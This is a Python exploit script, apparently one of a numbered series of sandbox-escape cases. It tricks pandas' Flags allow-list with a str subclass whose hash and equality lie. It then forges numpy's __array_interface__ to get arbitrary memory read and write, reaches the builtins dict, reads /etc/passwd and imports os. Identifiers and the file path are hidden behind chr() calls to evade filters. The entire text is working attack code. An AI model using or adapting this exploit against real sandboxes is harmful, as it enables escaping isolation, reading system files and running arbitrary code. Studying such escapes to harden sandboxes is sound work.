# source: pandas Flags.__setitem__ (pandas/core/flags.py: `if key not in self._keys: raise ...; setattr(self, key, value)`); str-subclass key confusion from pyjail write-ups (objects whose __eq__/__hash__ lie to membership checks); adapted from 12h/007 (Flags subclass with a private _keys, now refused)
# family: library allow-list check defeated by a str subclass: a Key(str) whose first hash is that of "allows_duplicate_labels" and whose __eq__ is always True passes `key in Flags._keys`; Flags then setattr()s the run-time name on itself; numpy trusts the forged __array_interface__
# goal: arbitrary memory read/write -> builtins dict (func_builtins) -> open() reads /etc/passwd, __import__ -> os
import numpy as np
import pandas as pd

u = chr(95) * 2
GATE = [0]


class Key(str):
    def __hash__(self):
        if GATE[0]:
            GATE[0] = 0
            return hash("allows" + chr(95) + "duplicate" + chr(95) + "labels")
        return hash(str(self))

    def __eq__(self, other):
        return True


SPEC = {"data": (0, False), "shape": (1,), "typestr": "<u8", "version": 3}
view = pd.DataFrame().flags
GATE[0] = 1
view[Key(u + "array" + chr(95) + "interface" + u)] = SPEC


def mem(addr):
    SPEC["data"] = (addr, False)
    return np.asarray(view)


def rd(addr):
    return int(mem(addr)[0])


def wr(addr, val):
    mem(addr)[0] = val


def f():
    return 0


p = rd(id(f) + 24)
holder = [None]
items = rd(id(holder) + 24)
wr(p, rd(p) + 1)
wr(items, p)
b = holder[0]
print("builtins dict:", type(b), len(b))
path = "".join(chr(c) for c in [47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100])
print(b["open"](path).read()[:120])
m = b[u + "import" + u]("o" + "s")
print(m, m.getuid())
